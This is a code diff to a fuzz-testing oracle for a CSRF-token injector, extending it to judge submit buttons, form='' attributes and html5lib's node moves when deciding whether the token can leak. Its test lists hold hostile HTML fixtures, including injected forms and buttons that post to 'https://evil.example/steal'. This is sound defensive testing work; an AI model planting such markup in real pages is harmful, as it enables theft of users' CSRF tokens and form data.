@@ -16,7 +16,15 @@ Per the HTML spec, an input inserted by the parser is owned by the form
 the form element pointer points to at that moment (no form="" attribute,
 no template on the stack). html5lib keeps that pointer
 (tree.formPointer), so the oracle wraps its element insertion and records
-the pointer when an HTML <input> is inserted. The owner's action (empty
+the pointer when an HTML <input> or <button> is inserted. That owner
+lasts only until the tree builder moves the element or an ancestor of
+it (the adoption agency takes nodes out and puts them elsewhere:
+html5lib's removeChild and reparentChildren, which the oracle wraps):
+where it lands, the nearest form among its ancestors owns it (browsers
+do so even when the owner moved along, which the spec would keep).
+An element inserted while the pointer is not set is owned the same way,
+by its nearest ancestor form. The oracle judges the owner each field and
+each submitter has in the final tree. The owner's action (empty
 or absent: the document's URL) is resolved against the document base URL:
 the first HTML <base href> of the final tree, resolved against the
 document's URL. Foreign-namespace inputs have no owner.
@@ -31,10 +39,19 @@ context and takes what is foster-parented after it, </template> closes the templ
 pointer and a </form> then leaves it alone (html5lib's handlers are
 wrapped to do so), an input inserted while a template is open is inert
 (no owner), and a <base> inside a template is not the document's.
-formaction buttons are left out: the injector documents that it
-cannot undo them (the CSP backstop does). Likewise a <base> to another
-origin that comes after a form got its token is accepted only when the
-injector reported it (CSRF_INJECT_LATE_BASE).
+A <base> to another origin that comes after a form got its token is
+accepted only when the injector reported it (CSRF_INJECT_LATE_BASE).
+
+Submitters. A form whose fields can leave by GET or to another origin
+must not hold the field: its method must be POST, and every submit
+button it owns (as above, or by a form="" attribute naming its id, the
+first element in tree order with that id) must send it by POST (or
+dialog) to this origin: a formmethod other than post and dialog is GET,
+a formaction is resolved against the document's base URL. A form=""
+button that comes after the field cannot be undone by a stream: it is
+accepted only when the injector reported it (CSRF_INJECT_LATE_OWNER), and
+so is one without a pointer owner that comes after it
+(CSRF_INJECT_LATE_BUTTON).
 
 Usage: inject_diff.py DRIVER [--pages N] [--seed S] [--report N]
 Exits 0 when every page passed; prints the first failing page otherwise.
@@ -64,6 +81,19 @@ SAME_FORMS = [
     '<form method=post action="&#x2F;x">',
     '<form method=p&#x6f;st action=rel>',
     '<form action="/search">',
+    '<form id=f method=post action=/f>',
+    '<form id=g method=post>',
+    '<form id=f action=/f>',
+]
+SUBMITTERS = [
+    "<button formmethod=post>", "<input type=submit formmethod=post>", "<button formmethod=get>",
+    "<input type=submit formmethod=GET>", "<input type=image formmethod=x>", "<button formmethod>",
+    "<button formmethod=dialog>", "<button type=button formmethod=get>", "<button>", "<input type=submit>",
+    '<button formaction="https://evil.example/">', '<button formaction="//evil.example/" formmethod=post>',
+    '<button formaction="/t">', "<button formaction=rel>", '<button formaction="https://self.example/t">',
+    "<button form=f formmethod=get>", '<button form=f formaction="https://evil.example/">',
+    "<button form=g formmethod=get>", "<input type=submit form=f formmethod=post>", "<button form=f>",
+    "<button form=x formmethod=get>", '<input type=image form=g formaction="//evil.example/">',
 ]
 EVIL_FORMS = [
     '<form method=post action="https://evil.example/">',
@@ -93,8 +123,26 @@ MARKUP = [
     "<b>", "</b>", "<span>", "</span>", "<li>", "<h1>", "<pre>", "<a href=/x>", "</a>", "<object>",
     "</object>", "<label>", "<mglyph>", "<![CDATa[x>", "<![CDATA[>", "<!doctype html>", "x", " ", ">", "<", "'", '"',
     '<div title="', '">', "<p title='", "'>", "</p>", "</br>",
+    "<noscript></form></noscript>", "<noscript><button formmethod=get></noscript>",
+    "<noscript><input type=submit value=Go></noscript>",
+    '<noscript><button formaction="https://evil.example/">x</button></noscript>',
+    # the outside review's pages: a form closed early with elements left open
+    '<div class="comment">Nice post! <form action="https://evil.example/steal" method="post" id="evil">'
+    '<div></form><a><section><button><div></div>',
+    '<div><form method=post action="https://evil.example/"></div></form>',
+    "<a>", "</a>", "<section>", "<button>", "</button>", "<nobr>", "<i>", "</i>",
 ]
 RARE = ["<plaintext>", "<frameset>", "\x1b$B"]
+# The outside review's pages, judged first: attacker markup before the
+# site's form, and what comes after it (an end tag that runs the adoption
+# agency moves the real form's content).
+REAL = "<form method=post action=/send><input name=msg><button>Send</button></form>"
+FIXED = [pre + REAL + post for pre in (
+    '<div class="comment">Nice post! <form action="https://evil.example/steal" method="post" id="evil">'
+    '<div></form><a><section><button><div></div>',
+    '<div><form action="https://evil.example/steal" method="post" id="evil"></div></form>',
+    '<form action="https://evil.example/steal" method="post"><b><div></form><i>',
+) for post in ("", "</a>", "</div>", "<a href=/next>next</a>", "</b></i><p>footer")]
 
 
 def fragment(rng, in_template):
@@ -105,6 +153,8 @@ def fragment(rng, in_template):
         return rng.choice(EVIL_FORMS)
     if r < 0.32:
         return rng.choice(BASES)
+    if r < 0.40:
+        return rng.choice(SUBMITTERS)
     if r < 0.36 and not in_template:
         inner = "".join(fragment(rng, True) for _ in range(rng.randint(0, 6)))
         return "<template>" + inner + "</template>"
@@ -245,12 +295,41 @@ def patch_templates(parser):
         cls._csrf_template_rules = True
 
 
+# The recorder of the page being parsed, for the wrapped moves.
+CURRENT = [None]
+
+
+def patch_moves(builder):
+    """Tells the current recorder when html5lib takes nodes out of where
+    they are to put them elsewhere (the adoption agency)."""
+    el = builder.elementClass
+    if el.__dict__.get("_csrf_moves"):
+        return
+    remove, reparent = el.removeChild, el.reparentChildren
+
+    def remove_child(self, node):
+        if CURRENT[0] is not None:
+            CURRENT[0].moved([node._element])
+        return remove(self, node)
+
+    def reparent_children(self, new_parent):
+        if CURRENT[0] is not None:
+            CURRENT[0].moved(list(self._element))
+        return reparent(self, new_parent)
+
+    el.removeChild = remove_child
+    el.reparentChildren = reparent_children
+    el._csrf_moves = True
+
+
 class Recorder:
-    """An html5lib tree builder that records, for every HTML input it
-    inserts, the form element pointer at that moment."""
+    """An html5lib tree builder that records, for every HTML input and
+    button it inserts, the form element pointer at that moment, and which
+    of them the tree builder later moves away from that form."""
 
     def __init__(self):
         base = treebuilders.getTreeBuilder("etree")
+        patch_moves(base)
         recorder = self
 
         class Builder(base):
@@ -289,14 +368,49 @@ class Recorder:
                 return el
 
         self.builder = Builder
-        self.owners = []
+        # injected fields: [element, owner by the pointer (None: none, or
+        # lost when moved), inert]
+        self.fields = []
+        # submit buttons: [attributes, element, owner by the pointer, fields injected before it]
+        self.submitters = []
 
     def note(self, tree, token, el):
-        if token["name"] != "input" or token.get("namespace", tree.defaultNamespace) != tree.defaultNamespace:
+        if el is None or token["name"] not in ("input", "button") or \
+                token.get("namespace", tree.defaultNamespace) != tree.defaultNamespace:
             return
         attrs = token["data"]
-        if attrs.get("name") == FIELD and attrs.get("value") == TOKEN:
-            self.owners.append(None if template_open(tree) else tree.formPointer)
+        inert = template_open(tree)
+        if token["name"] == "input" and attrs.get("name") == FIELD and attrs.get("value") == TOKEN:
+            self.fields.append([el._element, None if inert else tree.formPointer, inert])
+            return
+        if inert or not is_submit(token["name"], attrs):
+            return  # inert, or not a submitter
+        owner = None if "form" in attrs else tree.formPointer
+        self.submitters.append([attrs, el._element, owner, len(self.fields)])
+
+    def moved(self, roots):
+        """The subtrees of roots leave their place to be inserted
+        elsewhere: an element among them loses its pointer owner, even when
+        that form moves along (browsers reset the owner of an element
+        inserted again, as Chromium and Firefox did in the outside
+        review's pages; the spec keeps it when both stay in one tree):
+        its nearest ancestor form then owns it."""
+        inside = set()
+        for r in roots:
+            inside.update(id(e) for e in r.iter())
+        for rec in self.fields:
+            if id(rec[0]) in inside:
+                rec[1] = None
+        for rec in self.submitters:
+            if id(rec[1]) in inside:
+                rec[2] = None
+
+
+def is_submit(name, attrs):
+    kind = attrs.get("type", "").lower()
+    if name == "input":
+        return kind in ("submit", "image")
+    return kind not in ("button", "reset")
 
 
 def url_origin(url):
@@ -343,6 +457,55 @@ def document_base(root):
 
 
 LATE_BASE = 0x0040  # CSRF_INJECT_LATE_BASE
+LATE_OWNER = 0x1000  # CSRF_INJECT_LATE_OWNER
+LATE_BUTTON = 0x8000  # CSRF_INJECT_LATE_BUTTON
+
+
+class FormAttrs:
+    """An etree form element seen as html5lib's wrapper (its attributes)."""
+
+    def __init__(self, el):
+        self.attributes = el.attrib
+
+
+def nearest_form(parents, el):
+    """The nearest HTML form among el's ancestors (None inside a template)."""
+    p = parents.get(id(el))
+    while p is not None:
+        if p.tag == "template":
+            return None
+        if p.tag == "form":
+            return p
+        p = parents.get(id(p))
+    return None
+
+
+def by_id(el, ident):
+    """The first element in tree order (outside templates) with that id."""
+    if el.tag == "template":
+        return None
+    if el.attrib.get("id") == ident:
+        return el
+    for child in el:
+        found = by_id(child, ident)
+        if found is not None:
+            return found
+    return None
+
+
+def sends_away(attrs, base, status):
+    """What a submit button does to its form: "GET", an origin elsewhere, or None."""
+    if "formmethod" in attrs and attrs["formmethod"].lower() not in ("post", "dialog"):
+        return "GET"
+    if "formaction" in attrs:
+        act = attrs["formaction"]
+        target = DOC_URL if clean_url(act) == "" else resolve(base, act)
+        no_base = DOC_URL if clean_url(act) == "" else resolve(DOC_URL, act)
+        # a <base> after the field went in: reported (LATE_BASE), as for actions
+        if url_origin(target) != url_origin(SELF) and \
+                not (status & LATE_BASE and url_origin(no_base) == url_origin(SELF)):
+            return target
+    return None
 
 # Leaks html5lib alone cannot decide (see leaks()).
 UNDECIDED = []
@@ -352,13 +515,47 @@ def leaks(html, scripting, status):
     rec = Recorder()
     parser = html5lib.HTMLParser(tree=rec.builder, namespaceHTMLElements=False)
     patch_templates(parser)
-    doc = parser.parse(html, scripting=scripting)
+    CURRENT[0] = rec
+    try:
+        doc = parser.parse(html, scripting=scripting)
+    finally:
+        CURRENT[0] = None
     root = doc.getroot() if hasattr(doc, "getroot") else doc
+    parents = {id(c): p for p in root.iter() for c in p}
     base = document_base(root)
     found = []
     owned_self = 0
-    for form in rec.owners:
-        if form is None:
+    # each field's owner in the final tree: its pointer's form while it
+    # stayed with it, else its nearest ancestor form
+    owners = [None if inert else (owner._element if owner is not None else nearest_form(parents, el))
+              for el, owner, inert in rec.fields]
+    for attrs, el, owner, fields_before in rec.submitters:
+        if "form" in attrs:
+            named = by_id(root, attrs["form"])
+            owner_el = named if named is not None and named.tag == "form" else None
+        elif owner is not None:
+            owner_el = owner._element
+        else:
+            owner_el = nearest_form(parents, el)
+        if owner_el is None or not any(f is owner_el for f in owners):
+            continue
+        away = sends_away(attrs, base, status)
+        if away is None:
+            continue
+        # the field went in before this button: a stream cannot take it back
+        late = any(f is owner_el for f in owners[:fields_before])
+        if late and "form" in attrs and status & LATE_OWNER:
+            continue
+        if late and "form" not in attrs and owner is None and status & LATE_BUTTON:
+            continue
+        found.append("a submitter sending it to " + away)
+    for form_el in owners:
+        if form_el is None:
+            continue
+        form = FormAttrs(form_el)
+        method = form.attributes.get("method", "")
+        if method.lower() != "post":
+            found.append("GET (the form's own method)")
             continue
         action = form.attributes.get("action")
         target = DOC_URL if action is None or clean_url(action) == "" else resolve(base, action)
@@ -393,8 +590,8 @@ def main():
     rng = random.Random(args.seed)
     drv = subprocess.Popen([args.driver], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
     pages_with_token = tokens = owned = 0
-    for n in range(args.pages):
-        page = make_page(rng).encode("latin-1")
+    for n in range(len(FIXED) + args.pages):
+        page = (FIXED[n] if n < len(FIXED) else make_page(rng)).encode("latin-1")
         cuts = sorted(rng.sample(range(1, len(page)), min(len(page) - 1, rng.randint(0, 8))))
         drv.stdin.write(("%d %d %s\n" % (len(page), len(cuts), " ".join(map(str, cuts)))).encode())
         drv.stdin.write(page)
